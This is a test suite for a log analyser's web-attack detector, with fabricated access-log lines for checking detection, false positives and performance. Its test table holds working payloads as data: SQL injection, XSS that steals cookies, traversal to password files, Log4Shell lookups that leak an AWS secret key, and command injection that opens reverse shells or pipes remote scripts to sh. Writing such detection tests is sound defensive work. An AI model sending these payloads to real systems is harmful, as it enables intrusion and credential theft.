import assert from 'node:assert/strict';
import {
  createWebAttackDetector,
  findWebAttack,
  type WebAttackSubtype,
} from '../../../server/src/engine/detect/webAttack';
import type { Finding, LogRecord } from '../../../server/src/engine/model';
import { analyzeText } from '../../../server/src/engine/analyzer';
import { at, config, Harness, ofRule, type Fed } from './records';
import { MONTH_ABBREVIATIONS } from '../../../server/src/engine/time/monthNameDate';

const T0 = at('2024-05-14T09:00:00Z');

interface RequestSpec {
  source?: string;
  method?: string;
  /** Path with an optional `?query`, exactly as it would stand in the request line. */
  target: string;
  status?: number;
  ua?: string;
  referrer?: string;
  time?: number;
}

const BROWSER = 'Mozilla/5.0 (Windows NT 10.0; Win64; x64) AppleWebKit/537.36 (KHTML, like Gecko) Chrome/124.0 Safari/537.36';

function clfStamp(ms: number): string {
  const d = new Date(ms);
  const M = MONTH_ABBREVIATIONS[d.getUTCMonth()];
  const two = (n: number) => String(n).padStart(2, '0');
  return `${two(d.getUTCDate())}/${M}/${d.getUTCFullYear()}:${two(d.getUTCHours())}:${two(d.getUTCMinutes())}:${two(d.getUTCSeconds())} +0000`;
}

/** A combined-log line and the record a parser makes of it. */
function request(spec: RequestSpec, line = 0): Fed {
  const source = spec.source ?? '203.0.113.7';
  const method = spec.method ?? 'GET';
  const q = spec.target.indexOf('?');
  const path = q < 0 ? spec.target : spec.target.slice(0, q);
  const query = q < 0 ? undefined : spec.target.slice(q + 1);
  const ua = spec.ua ?? BROWSER;
  const referrer = spec.referrer ?? '-';
  const status = spec.status ?? 404;
  const time = spec.time ?? T0 + line * 1000;
  const text = `${source} - - [${clfStamp(time)}] "${method} ${spec.target} HTTP/1.1" ${status} 321 "${referrer}" "${ua}"`;
  const record: LogRecord = {
    line,
    kind: 'http',
    time,
    offsetMinutes: 0,
    source,
    method,
    path,
    status,
    bytes: 321,
    userAgent: ua,
    ...(query !== undefined ? { query } : {}),
    ...(referrer !== '-' ? { referrer } : {}),
  };
  return { record, text };
}

function requests(specs: RequestSpec[]): Fed[] {
  return specs.map((s, i) => request(s, i));
}

function run(fed: Fed[], cfg = config()): Finding[] {
  return ofRule(new Harness([createWebAttackDetector], cfg).feed(fed).finish(), 'web-attack');
}

/** The subtypes found on one request. */
function subtypesOf(spec: RequestSpec): WebAttackSubtype[] {
  const { record, text } = request(spec);
  return [...new Set(findWebAttack(record, text).map((m) => m.subtype))];
}

describe('web-attack detector', () => {
  describe('finds payloads of every subtype', () => {
    const table: [WebAttackSubtype, RequestSpec][] = [
      // SQL injection
      ['sqli', { target: "/item.php?id=1'+or+1=1--" }],
      ['sqli', { target: "/item.php?id=1%27%20OR%20%271%27%3D%271" }],
      ['sqli', { target: '/products?cat=-1+UNION+ALL+SELECT+1,2,group_concat(username),4+FROM+users--' }],
      ['sqli', { target: '/news.php?id=1/**/UnIoN/**/SeLeCt/**/1,2,3' }],
      ['sqli', { target: '/news.php?id=1/*!50000union*/+/*!50000select*/+1,2,3' }],
      ['sqli', { target: "/login?user=admin'%20AND%20SLEEP(5)--%20-" }],
      ['sqli', { target: "/p?id=1);WAITFOR%20DELAY%20'0:0:5'--" }],
      ['sqli', { target: '/p?id=1%20AND%20(SELECT%201%20FROM%20(SELECT%20COUNT(*),CONCAT(0x7e,version())x%20FROM%20information_schema.tables%20GROUP%20BY%20x)a)' }],
      ['sqli', { target: "/p?id=1'+and+extractvalue(1,concat(0x7e,(select+user())))--+" }],
      ['sqli', { target: "/p?id=1'+and+updatexml(1,concat(0x7e,database()),1)--" }],
      ['sqli', { target: "/p?id=1'+union+select+load_file('/etc/hosts'),2--" }],
      ['sqli', { target: "/p?id=1'+into+outfile+'/var/www/x.php'--" }],
      ['sqli', { target: '/p?id=1;DROP%20TABLE%20users--' }],
      ['sqli', { target: '/p?id=1%3BSELECT%20pg_sleep(10)--' }],
      ['sqli', { target: '/p?id=1+or+1=1' }],
      ['sqli', { target: "/p?q=x%2527%2520or%2520%25271%2527%253D%25271" }], // double-encoded
      ['sqli', { target: '/', ua: "Mozilla/5.0' AND BENCHMARK(5000000,MD5(1))-- -" }],
      ['sqli', { target: '/DVWA/dvwa/?C=convert(int%2c%20cast(0x5f21403264696c656d6d61%20as%20varchar(8000)))' }],
      ['sqli', { target: '/index.php/2-uncategorised/1--1%27%20OR%202%2b196-196-1=0%2b0%2b0%2b1%20or%20%2701Fg5alL%27=%27' }],
      ['sqli', { target: '/page?id=-1%20OR%202%2b394-394-1=0%2b0%2b0%2b1%20--%20' }],
      ['sqli', { target: '/item?id=1%bf%27' }], // GBK quote bypass (weak)
      ['sqli', { target: '/users/?task=a%27b%22c%27d%22' }], // alternating quotes (weak)
      // cross-site scripting
      ['xss', { target: '/search?q=%3Cscript%3Ealert(document.cookie)%3C/script%3E' }],
      ['xss', { target: '/search?q=%3Cimg%20src%3Dx%20onerror%3Dalert(1)%3E' }],
      ['xss', { target: '/search?q=%3Csvg/onload=alert(1)%3E' }],
      ['xss', { target: '/search?q=&lt;script&gt;alert(1)&lt;/script&gt;' }],
      ['xss', { target: '/search?q=&#x3c;body%20onload=alert(1)&#x3e;' }],
      ['xss', { target: '/search?q=&#60;iframe%20src=javascript:alert(1)&#62;' }],
      ['xss', { target: '/go?url=javascript:alert(String.fromCharCode(88,83,83))' }],
      ['xss', { target: '/p?name=%253Cscript%253Ealert(1)%253C%252Fscript%253E' }], // double-encoded
      ['xss', { target: '/p?x=%u003Cscript%u003Ealert(1)' }], // IIS %u encoding
      ['xss', { target: '/p?x=%EF%BC%9Cscript%EF%BC%9E' }], // full-width < >
      ['xss', { target: '/', referrer: 'http://evil.example/?q=<script>document.location="http://x/?"+document.cookie</script>' }],
      ['xss', { target: '/', ua: '<script>alert(1)</script>' }],
      ['xss', { target: '/search/?searchword=ul.menu%22onmouseover=kzsy(9698)%22' }],
      ['xss', { target: '/users/?view=login\\u003CScRiPt\\u003Ealert(1)' }],
      ['xss', { target: '/p?x=\\x3cscript\\x3e' }],
      // path traversal
      ['traversal', { target: '/static/../../../../etc/passwd' }],
      ['traversal', { target: '/cgi-bin/.%2e/.%2e/.%2e/.%2e/etc/passwd' }],
      ['traversal', { target: '/download?file=..%2F..%2F..%2Fetc%2Fshadow' }],
      ['traversal', { target: '/download?file=%252e%252e%252f%252e%252e%252fetc%252fpasswd' }],
      ['traversal', { target: '/download?file=..%c0%af..%c0%afetc%c0%afpasswd' }],
      ['traversal', { target: '/download?file=..\\..\\..\\windows\\win.ini' }],
      ['traversal', { target: '/view?page=....//....//....//boot.ini' }],
      ['traversal', { target: '/read?f=/proc/self/environ' }],
      ['traversal', { target: '/read?f=/etc/passwd' }],
      ['traversal', { target: '/DVWA/security.php?test=/.././.././.././../etc/./passwd%2500' }],
      ['traversal', { target: '/files?name=..%2fconfig.php' }], // one step, but hidden by encoding
      ['traversal', { target: '/index.php/component/content/?format=feed&type=/WEB-INF/web.xml' }],
      // local and remote file inclusion
      ['lfi', { target: '/index.php?page=php://filter/convert.base64-encode/resource=index.php' }],
      ['lfi', { target: '/index.php?page=php://input' }],
      ['lfi', { target: '/index.php?page=data://text/plain;base64,PD9waHAgc3lzdGVtKCRfR0VUWydjJ10pOyA/Pg==' }],
      ['lfi', { target: '/DVWA/vulnerabilities/fi/?page=data%3A%3Bbase64%2CTlNYQ09ORjUzMDU5OTY2TlNYQ09ORg==' }],
      ['lfi', { target: '/index.php?page=expect://id' }],
      ['lfi', { target: '/index.php?page=file:///etc/hosts' }],
      ['rfi', { target: '/index.php?n=http://eatmyfood.hostinginfive.com/pizza.htm?' }],
      ['rfi', { target: '/index.php?page=http://203.0.113.50/shell.txt?' }],
      ['rfi', { target: '/index.php?inc=https://evil.example/c.txt%00' }],
      ['rfi', { target: '/search/?searchword=Http://testasp.vulnweb.com/t/fit.txt' }],
      // command injection
      ['cmdi', { target: '/ping.php?host=127.0.0.1;cat%20/etc/hosts' }],
      ['cmdi', { target: '/ping.php?host=127.0.0.1|id' }],
      ['cmdi', { target: '/ping.php?host=%60id%60' }],
      ['cmdi', { target: '/ping.php?host=$(whoami)' }],
      ['cmdi', { target: '/ping.php?host=x%3B%20wget%20http%3A%2F%2F198.51.100.9%2Fx.sh' }],
      ['cmdi', { target: '/api?c=curl%20-s%20http://198.51.100.9/i%20|%20sh' }],
      ['cmdi', { target: '/api?c=x%0Anc%20-e%20/bin/sh%20198.51.100.9%204444' }],
      ['cmdi', { target: '/api?c=bash%20-i%20%3E%26%20/dev/tcp/198.51.100.9/4444%200%3E%261' }],
      ['cmdi', { target: '/api?c=cat${IFS}/etc/hosts' }],
      ['cmdi', { target: '/index.php?x=;print(md5(acunetix_wvs_security_test));' }],
      ['cmdi', { target: "/index.php/component/'%2bresponse.write(9643611*9133510)%2b'/article" }],
      ['cmdi', { target: '/search?q={{7*7}}' }],
      ['cmdi', { target: '/index.php/%24{9999410%2b9999115}/users/' }],
      ['cmdi', { target: "/%26nslookup%20OENbNEQG%26'%5c%22%600%26nslookup%20OENbNEQG%26%60'/x" }],
      ['cmdi', { target: '/ping?host=8.8.8.8;sleep%205' }],
      // Log4Shell
      ['log4shell', { target: '/', ua: '${jndi:ldap://198.51.100.9:1389/a}' }],
      ['log4shell', { target: '/', ua: '${${lower:j}ndi:${lower:l}dap://198.51.100.9/x}' }],
      ['log4shell', { target: '/', ua: '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://198.51.100.9/x}' }],
      ['log4shell', { target: '/', ua: '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//198.51.100.9/x}' }],
      ['log4shell', { target: '/?x=%24%7Bjndi%3Aldap%3A%2F%2F198.51.100.9%2Fa%7D' }],
      ['log4shell', { target: '/', referrer: '${jndi:dns://198.51.100.9/${env:AWS_SECRET_ACCESS_KEY}}' }],
      ['log4shell', { target: '/', ua: 'curl/${env:USER}' }], // a lookup probe without JNDI (lower strength)
      // Shellshock
      ['shellshock', { target: '/cgi-bin/status', ua: '() { :; }; /bin/bash -c "wget http://198.51.100.9/x"' }],
      ['shellshock', { target: '/cgi-bin/test.cgi', referrer: '() { _; } >_[$($())] { echo; id; }' }],
      ['shellshock', { target: '/cgi-bin/x.sh', ua: '() {:;}; echo vulnerable' }],
      // SSRF to metadata endpoints
      ['ssrf', { target: '/fetch?url=http://169.254.169.254/latest/meta-data/iam/security-credentials/' }],
      ['ssrf', { target: '/fetch?url=http%3A%2F%2Fmetadata.google.internal%2FcomputeMetadata%2Fv1%2F' }],
      ['ssrf', { target: '/fetch?u=http://100.100.100.200/latest/meta-data/' }],
      ['ssrf', { target: '/fetch?u=http://[fd00:ec2::254]/latest/meta-data/' }],
      ['ssrf', { target: '/proxy?target=gopher://127.0.0.1:6379/_FLUSHALL' }],
      // webshells
      ['webshell', { target: '/c99.php' }],
      ['webshell', { target: '/images/r57.php' }],
      ['webshell', { target: '/wp-content/themes/x/wso.php' }],
      ['webshell', { target: '/uploads/shell.php?cmd=id' }],
      ['webshell', { target: '/b374k.php' }],
      ['webshell', { target: '/alfacgiapi/perl.alfa' }],
      ['webshell', { target: '/wp-content/uploads/2023/05/cache.php' }],
      ['webshell', { target: '/aspnet_client/system_web/cmd.aspx?cmd=whoami' }],
      ['webshell', { target: '/index.php?cmd=cat%20/etc/hosts' }],
    ];
    for (const [subtype, spec] of table) {
      it(`${subtype}: ${spec.target}${spec.ua ? ` UA ${spec.ua}` : ''}${spec.referrer ? ` ref ${spec.referrer}` : ''}`, () => {
        assert.ok(subtypesOf(spec).includes(subtype), `expected ${subtype}, got [${subtypesOf(spec).join(', ')}]`);
      });
    }
  });

  describe('stays quiet on look-alikes', () => {
    const quiet: RequestSpec[] = [
      { target: '/search?q=select+a+plan' },
      { target: '/search?q=union+station+chicago' },
      { target: '/search?q=script+writing+for+beginners' },
      { target: '/search?q=drop+shipping+business' },
      { target: '/search?q=how+to+use+or+and+and+in+a+sentence' },
      { target: '/search?q=select%20the%20best%20union%20plan%20from%20our%20list' },
      { target: '/search?q=rock+%27n%27+roll' },
      { target: "/search?q=don%27t+say+%22hello%22" },
      { target: '/search?q=1%2B1%3D2' },
      { target: '/search?q=javascript%3A+the+good+parts' },
      { target: '/search?q=regular+expression+(regex)+tutorial' },
      { target: '/search?q=alert+the+team' },
      { target: '/search?q=cat+videos' },
      { target: '/search?q=sleep+better+tonight' },
      { target: '/search?q=c%2B%2B+templates' },
      { target: '/search?q=50%25+off' },
      { target: '/search?q=%E6%97%A5%E6%9C%AC%E8%AA%9E' },
      { target: '/search?q=%3Cb%3Ebold%3C%2Fb%3E' },
      { target: '/files/report..final.pdf' },
      { target: '/docs/v1..v2/changes.html' },
      { target: '/static/../img/logo.png' }, // one literal step: how relative links look
      { target: '/wp-content/uploads/2020/01/photo.jpg' },
      { target: '/wp-content/uploads/2020/01/report.pdf' },
      { target: '/wp-login.php' },
      { target: '/index.php?option=com_content&view=article&id=42&Itemid=101' },
      { target: '/api/v1/items?filter=%7B%22name%22%3A%22lamp%22%2C%22price%22%3A%7B%22lt%22%3A20%7D%7D' },
      { target: '/api/v1/items?filter={"status":"active","tags":["a","b"]}' },
      { target: '/t?token=eyJhbGciOiJIUzI1NiJ9.eyJzdWIiOiIxMjM0NTY3ODkwIn0.dozjgNryP4J3jVmNHl0w5N_XgL0n3I9PlFUP0THsR8U' },
      { target: '/img?data=aGVsbG8gd29ybGQ+Zm9vL2Jhcg==' },
      { target: '/cart?add=1&qty=2&ref=home&lt=5' },
      { target: '/search?a=1&b=2&c=x+y+z' },
      { target: '/scripts/?C=M;O=A' },
      { target: '/app;jsessionid=0A1B2C3D4E5F' },
      { target: '/wiki/Function_(mathematics)' },
      { target: '/blog/tags/jquery%20mobile' },
      { target: '/scripts//%22$%7BWEBLOC%7D/view.php?file=$%7Blinkto%7D%5C%22' }, // a crawler's template bug
      { target: '/misc/nmh//%22file://$file/%22' },
      { target: '/presentations/logstash-puppetconf-2012/lib/font/league_gothic-webfont.ttf)%20format(%22truetype%22' },
      { target: '/login?next=https://example.com/account.php' },
      { target: '/redirect?to=https%3A%2F%2Fwww.example.org%2Fpage' },
      { target: '/go?href=javascript:void(0)' },
      { target: '/cmd/run-tests' },
      { target: '/tools/shell-scripting-guide' },
      { target: '/etc/hosts-file-guide.html' },
      { target: '/help?topic=/etc/hosts' },
      { target: '/api/users?id=42;version=2' },
      { target: '/', ua: 'Mozilla/5.0 (X11; Linux x86_64; rv:125.0) Gecko/20100101 Firefox/125.0' },
      { target: '/', ua: 'Mozilla/5.0 (iPhone; CPU iPhone OS 17_4 like Mac OS X) AppleWebKit/605.1.15 (KHTML, like Gecko) Version/17.4 Mobile/15E148 Safari/604.1' },
      { target: '/', ua: 'Mozilla/4.0 (compatible; MSIE 8.0; Windows NT 6.1; Trident/4.0; SLCC2; .NET CLR 2.0.50727; Media Center PC 6.0)' },
      { target: '/', ua: 'Dalvik/2.1.0 (Linux; U; Android 13; SM-S911B Build/TP1A.220624.014)' },
      { target: '/', ua: 'Googlebot/2.1 (+http://www.google.com/bot.html)' },
      { target: '/', ua: 'Safari/9537.73.11 CFNetwork/673.0.3 Darwin/13.0.0 (x86_64) (MacBookPro8%2C1)' },
      { target: '/', referrer: 'https://www.google.com/search?q=union+select+committee&hl=en' },
      { target: '/', referrer: 'http://semicomplete.com/blog/geekery/solving-good-or-bad-problems.html?utm_source=feedburner&utm_medium=feed&utm_campaign=Feed%3A+semicomplete%2Fmain+%28semicomplete.com+-+Jordan+Sissel%29' },
      { target: '/', referrer: 'https://duckduckgo.com/?q=%22exact+phrase%22+site%3Aexample.com' },
      { target: '/fetch?url=https://example.com/feed.xml' },
      { target: '/tags/c%23' },
      { target: '/search?q=tables+%26+ping+pong+balls' },
      { target: '/search?q=rock+%26+roll' },
      { target: '/search?q=fun%3B+sleep+well' },
      { target: '/search?q=cats%3B+echo+chamber' },
      { target: '/search?q=2%2B2%3D4+or+5' },
      { target: '/search?q=%22it%27s%22' },
      { target: '/search?q=turn+on+load%3D5' },
      { target: '/api/items?fields=name|email|created' },
      { target: '/search?q=template+{{name}}' },
    ];
    for (const spec of quiet) {
      it(`${spec.target}${spec.ua ? ` UA ${spec.ua}` : ''}${spec.referrer ? ` ref ${spec.referrer}` : ''}`, () => {
        const { record, text } = request(spec);
        assert.deepEqual(findWebAttack(record, text), []);
      });
    }
    it('reports no finding for a busy benign client', () => {
      const fed = requests(quiet.map((q) => ({ ...q, status: 200 })));
      assert.deepEqual(run(fed), []);
    });
  });

  describe('messages of other records', () => {
    it('finds Log4Shell and Shellshock in messages of non-HTTP records', () => {
      const log4j: LogRecord = { line: 0, kind: 'event', time: T0, offsetMinutes: 0, message: 'login failed for user ${jndi:ldap://198.51.100.9/a}' };
      const bash: LogRecord = { line: 1, kind: 'event', time: T0, offsetMinutes: 0, message: 'HTTP_USER_AGENT=() { :;}; /bin/cat /etc/passwd' };
      assert.deepEqual(findWebAttack(log4j, log4j.message).map((m) => m.subtype), ['log4shell']);
      assert.deepEqual(findWebAttack(bash, bash.message).map((m) => m.subtype), ['shellshock']);
    });

    it('ignores every other payload kind in messages', () => {
      const rec: LogRecord = {
        line: 0,
        kind: 'event',
        time: T0,
        offsetMinutes: 0,
        message: "query failed: SELECT * FROM t WHERE a='' or 1=1 -- <script>alert(1)</script> ../../etc/passwd",
      };
      assert.deepEqual(findWebAttack(rec, rec.message), []);
    });
  });

  describe('spans', () => {
    const cases: [RequestSpec, string][] = [
      [{ target: "/item.php?id=1'+or+1=1--" }, "'+or+1=1"],
      [{ target: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' }, '%3Cscript'],
      [{ target: '/cgi-bin/.%2e/.%2e/.%2e/etc/passwd' }, '.%2e/.%2e/.%2e/etc/passwd'],
      [{ target: '/p?x=%252e%252e%252fetc%252fpasswd' }, '%252e%252e%252fetc%252fpasswd'],
      [{ target: '/search?q=&lt;svg/onload=alert(1)&gt;' }, '&lt;svg/onload='],
      [{ target: '/', ua: 'Mozilla/5.0 ${jndi:ldap://198.51.100.9/a} x' }, '${jndi:ldap://198.51.100.9/a}'],
      [{ target: '/c99.php' }, 'c99.php'],
      [{ target: '/index.php?n=http://eatmyfood.hostinginfive.com/pizza.htm?' }, 'http://eatmyfood.hostinginfive.com/pizza.htm?'],
      [{ target: '/', referrer: 'http://example.com/a?q=%3Cscript%3E' }, '%3Cscript'],
      [{ target: '/news.php?id=1/**/UNION/**/SELECT/**/1,2' }, 'UNION/**/SELECT/**/1'],
    ];
    for (const [spec, raw] of cases) {
      it(`points at ${raw} on the raw line`, () => {
        const { record, text } = request(spec);
        const [m] = findWebAttack(record, text);
        assert.ok(m, 'a match');
        assert.equal(text.slice(m.span[0], m.span[1]), raw);
      });
    }

    it('spans the path on the request line, not an earlier slash', () => {
      const { record, text } = request({ target: '/c99.php', referrer: 'http://example.com/c99.php' });
      const [m] = findWebAttack(record, text);
      assert.ok(m.span[0] > text.indexOf('"GET '));
      assert.ok(m.span[1] < text.indexOf('" 404'));
    });

    it('counts columns in UTF-16 units when the line has astral characters before the payload', () => {
      const { record, text } = request({ target: '/x?q=%3Cscript%3E', referrer: 'http://example.com/😀' });
      const [m] = findWebAttack(record, text);
      assert.equal(text.slice(m.span[0], m.span[1]), '%3Cscript');
    });

    it('falls back to the whole line when the field is not on it (escaped JSON)', () => {
      const record: LogRecord = { line: 0, kind: 'http', time: T0, offsetMinutes: 0, path: '/p', query: 'q="><script>' };
      const text = '{"path":"/p","query":"q=\\"><script>"}';
      const [m] = findWebAttack(record, text);
      assert.deepEqual(m.span, [0, text.length]);
    });

    it('gives offsets in the field without a line', () => {
      const [m] = findWebAttack({ kind: 'http', path: '/x', query: 'a=1&b=%3Cscript%3E' });
      assert.deepEqual(m.span, [6, 15]);
    });

    it('puts the first payload span in the finding evidence', () => {
      const fed = requests([{ target: '/a' }, { target: '/item.php?id=1%27%20or%20%271%27=%271' }]);
      const [f] = run(fed);
      const [s, e] = f.evidence.span as number[];
      assert.equal(fed[1].text.slice(s, e), "%27%20or%20%271%27=%271");
      assert.equal(f.evidence.field, 'query');
      assert.equal(f.evidence.excerpt, "' or '1'='1");
    });
  });

  describe('findings', () => {
    it('one finding per source with every payload line, T1190', () => {
      const fed = requests([
        { target: '/', status: 200 },
        { target: "/item.php?id=1'+or+1=1--" },
        { target: '/about', status: 200 },
        { target: '/search?q=%3Cscript%3Ealert(1)%3C/script%3E' },
        { target: '/x', source: '198.51.100.20', ua: '${jndi:ldap://198.51.100.9/a}' },
        { target: '/static/../../../../etc/passwd' },
      ]);
      const findings = run(fed);
      assert.equal(findings.length, 2);
      const a = findings.find((f) => f.source === '203.0.113.7')!;
      assert.deepEqual(a.lines, [2, 4, 6]);
      assert.equal(a.line, 2);
      assert.deepEqual(a.attack, ['T1190']);
      assert.deepEqual(a.evidence.subtypes, ['sqli', 'xss', 'traversal']);
      assert.deepEqual(a.evidence.subtypeCounts, [1, 1, 1]);
      assert.equal(a.evidence.payloadLines, 3);
      assert.match(a.message, /^3 requests with attack payloads from 203\.0\.113\.7 \(sqli ×1, xss ×1, traversal ×1\); first on line 2 in the query: ' or 1=1/);
      const b = findings.find((f) => f.source === '198.51.100.20')!;
      assert.equal(b.evidence.strongestSubtype, 'log4shell');
      assert.equal(b.severity, 'critical');
    });

    it('a referrer payload repeated by several sources is found for each, with its span on each line', () => {
      const xss = 'http://evil.example/?q=%3Cscript%3Ealert(1)%3C/script%3E';
      const plain = 'https://www.example-shop.com/blog/2024/post-1';
      const fed = requests(
        Array.from({ length: 12 }, (_, i) => ({ target: `/page-${i}`, status: 200, source: `198.51.100.${i % 3}`, referrer: i % 2 === 0 ? xss : plain })),
      );
      const findings = run(fed);
      assert.deepEqual(findings.map((f) => f.source), ['198.51.100.0', '198.51.100.2', '198.51.100.1']);
      for (const f of findings) {
        const own = fed.filter((x) => x.record.source === f.source && x.record.referrer === xss).map((x) => x.record.line + 1);
        assert.deepEqual(f.lines, own, f.source);
        assert.equal(f.evidence.field, 'referrer');
        const [s, e] = f.evidence.span as number[];
        assert.equal(fed[f.line - 1].text.slice(s, e), '%3Cscript');
      }
    });

    it('names T1505.003 for webshells', () => {
      const [only] = run(requests([{ target: '/c99.php' }, { target: '/r57.php' }]));
      assert.deepEqual(only.attack, ['T1505.003', 'T1190']);
      const [mixed] = run(requests([{ target: '/c99.php' }, { target: "/p?id=1'+or+1=1--" }]));
      assert.deepEqual(mixed.attack, ['T1190', 'T1505.003']);
    });

    it('confidence grows with payload lines, subtypes and 2xx answers', () => {
      const one = run(requests([{ target: "/p?id=1'+or+1=1--" }]))[0].confidence;
      const three = run(requests([1, 2, 3].map((i) => ({ target: `/p?id=${i}'+or+1=1--` }))))[0].confidence;
      const mixed = run(
        requests([{ target: "/p?id=1'+or+1=1--" }, { target: '/s?q=%3Cscript%3E' }, { target: '/f?x=../../../etc/passwd' }]),
      )[0].confidence;
      const answered = run(requests([{ target: "/p?id=1'+or+1=1--", status: 200 }]))[0].confidence;
      assert.ok(three > one, `${three} > ${one}`);
      assert.ok(mixed > three, `${mixed} > ${three}`);
      assert.ok(answered > one, `${answered} > ${one}`);
      assert.ok(one >= 0.6 && one <= 0.8, `one strong payload is high: ${one}`);
    });

    it('keeps weak signals alone at medium at most', () => {
      const fed = requests(Array.from({ length: 40 }, (_, i) => ({ target: `/p?task=a${i}%27b%22c%27d%22`, status: 200 })));
      const [f] = run(fed);
      assert.equal(f.evidence.onlyWeakSignals, true);
      assert.ok(f.confidence <= 0.55, String(f.confidence));
      assert.equal(f.severity, 'medium');
    });

    it('a webshell name that answers 200 weighs more than one that 404s', () => {
      const missing = run(requests([{ target: '/c99.php', status: 404 }]))[0].confidence;
      const present = run(requests([{ target: '/c99.php', status: 200 }]))[0].confidence;
      assert.ok(present > missing + 0.1, `${present} vs ${missing}`);
    });

    it('respects the allowlist (IP and CIDR)', () => {
      const fed = requests([
        { target: "/p?id=1'+or+1=1--", source: '10.1.2.3' },
        { target: "/p?id=1'+or+1=1--", source: '203.0.113.7' },
      ]);
      const findings = run(fed, config({ allowlist: ['10.0.0.0/8'] }));
      assert.deepEqual(findings.map((f) => f.source), ['203.0.113.7']);
    });

    it('caps evidence lines but counts them all', () => {
      const fed = requests(Array.from({ length: 30 }, (_, i) => ({ target: `/p?id=${i}'+or+1=1--` })));
      const [f] = run(fed, config({ maxEvidenceLines: 10 }));
      assert.equal(f.lines.length, 10);
      assert.equal(f.evidence.payloadLines, 30);
    });

    it('finish does not change state and sees appended lines', () => {
      const h = new Harness([createWebAttackDetector], config());
      const fed = requests([{ target: "/p?id=1'+or+1=1--" }, { target: '/s?q=%3Cscript%3E' }]);
      h.feed(fed.slice(0, 1));
      const first = ofRule(h.finish(), 'web-attack');
      assert.deepEqual(ofRule(h.finish(), 'web-attack'), first);
      h.feed(fed.slice(1));
      const [after] = ofRule(h.finish(), 'web-attack');
      assert.equal(after.evidence.payloadLines, 2);
      assert.equal(after.fingerprint, first[0].fingerprint);
    });

    it('decodes only as many rounds as configured', () => {
      const triple = requests([{ target: '/p?q=%25253Cscript%25253E' }]);
      assert.equal(run(triple, config({ rules: { 'web-attack': { decodeRounds: 3 } } })).length, 1);
      assert.equal(run(triple, config({ rules: { 'web-attack': { decodeRounds: 2 } } })).length, 0);
    });
  });

  describe('linear time on hostile input', () => {
    const hostile: [string, string][] = [
      ["'or 1=1 ' + 1M a", "'or 1=1 '" + 'a'.repeat(1e6)],
      ['500K <', '<'.repeat(5e5)],
      ['500K <a', '<a'.repeat(5e5)],
      ['<a then 1M without >', '<a ' + 'x '.repeat(5e5)],
      ['300K %25', '%25'.repeat(3e5)],
      ['300K ${', '${'.repeat(3e5)],
      ['nested ${', '${'.repeat(2e5) + 'a' + '}'.repeat(2e5)],
      ['${jndi: nested lookups', '${jndi:' + '${lower:a}'.repeat(1e5)],
      ['300K ../', '../'.repeat(3e5)],
      ['1M quotes', "'".repeat(1e6)],
      ["' or  repeated", "' or ".repeat(1.5e5)],
      ['union repeated', 'union select '.repeat(8e4)],
      ['=http:// repeated', '=http://a'.repeat(1e5)],
      ['() { repeated', '() {'.repeat(2.5e5)],
      ['&# repeated', '&#'.repeat(5e5)],
      ['%u repeated', '%u'.repeat(5e5)],
      ['(select repeated', '(select '.repeat(1.2e5)],
      ['; repeated', '; '.repeat(5e5)],
      ['/* repeated', '/*'.repeat(5e5)],
      ['<img on repeated', '<img src=x o'.repeat(8e4)],
    ];
    for (const [name, s] of hostile) {
      it(`${name}: every field well under a second`, function () {
        this.timeout(20_000);
        for (const fields of [{ path: '/' + s }, { path: '/', query: s }, { path: '/', userAgent: s }, { path: '/', referrer: 'http://h/' + s }]) {
          const t0 = performance.now();
          findWebAttack({ kind: 'http', ...fields }, `x "GET ${fields.path} HTTP/1.1" 200 1 "-" "-"`);
          const ms = performance.now() - t0;
          assert.ok(ms < 500, `${Object.keys(fields).join('+')} took ${ms.toFixed(0)} ms`);
        }
        const t0 = performance.now();
        findWebAttack({ kind: 'event', message: s }, s);
        assert.ok(performance.now() - t0 < 500);
      });
    }
  });

  describe('end to end on combined logs', () => {
    const lines = [
      '198.51.100.23 - - [14/May/2024:09:00:01 +0000] "GET /index.html HTTP/1.1" 200 5120 "-" "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0"',
      '203.0.113.66 - - [14/May/2024:09:00:02 +0000] "GET /products.php?id=-1%20UNION%20SELECT%201,username,password%20FROM%20users-- HTTP/1.1" 200 812 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
      '198.51.100.23 - - [14/May/2024:09:00:03 +0000] "GET /search?q=union+station+parking HTTP/1.1" 200 2048 "http://shop.example/" "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0"',
      '203.0.113.66 - - [14/May/2024:09:00:04 +0000] "GET /download.php?file=..%2F..%2F..%2F..%2Fetc%2Fpasswd HTTP/1.1" 200 1801 "-" "sqlmap/1.7.2#stable (https://sqlmap.org)"',
      '192.0.2.44 - - [14/May/2024:09:00:05 +0000] "GET / HTTP/1.1" 200 5120 "-" "${jndi:ldap://192.0.2.200:1389/Exploit}"',
      '198.51.100.23 - - [14/May/2024:09:00:06 +0000] "GET /files/report..final.pdf HTTP/1.1" 200 90210 "-" "Mozilla/5.0 (X11; Linux x86_64) Firefox/125.0"',
    ];
    it('finds the attackers and leaves the reader alone', () => {
      const report = analyzeText(lines.join('\n') + '\n', { path: 'access.log', config: config() });
      assert.equal(report.format, 'apache-combined');
      const found = ofRule(report.findings, 'web-attack');
      assert.deepEqual(found.map((f) => f.source).sort(), ['192.0.2.44', '203.0.113.66']);
      const sqlmap = found.find((f) => f.source === '203.0.113.66')!;
      assert.deepEqual(sqlmap.lines, [2, 4]);
      assert.deepEqual(sqlmap.evidence.subtypes, ['sqli', 'traversal']);
      assert.equal(sqlmap.severity, 'critical');
      const [s, e] = sqlmap.evidence.span as number[];
      assert.equal(lines[1].slice(s, e), 'UNION%20SELECT%201');
      const log4j = found.find((f) => f.source === '192.0.2.44')!;
      assert.equal(log4j.evidence.field, 'user-agent');
      assert.equal(log4j.severity, 'critical');
    });
  });
});
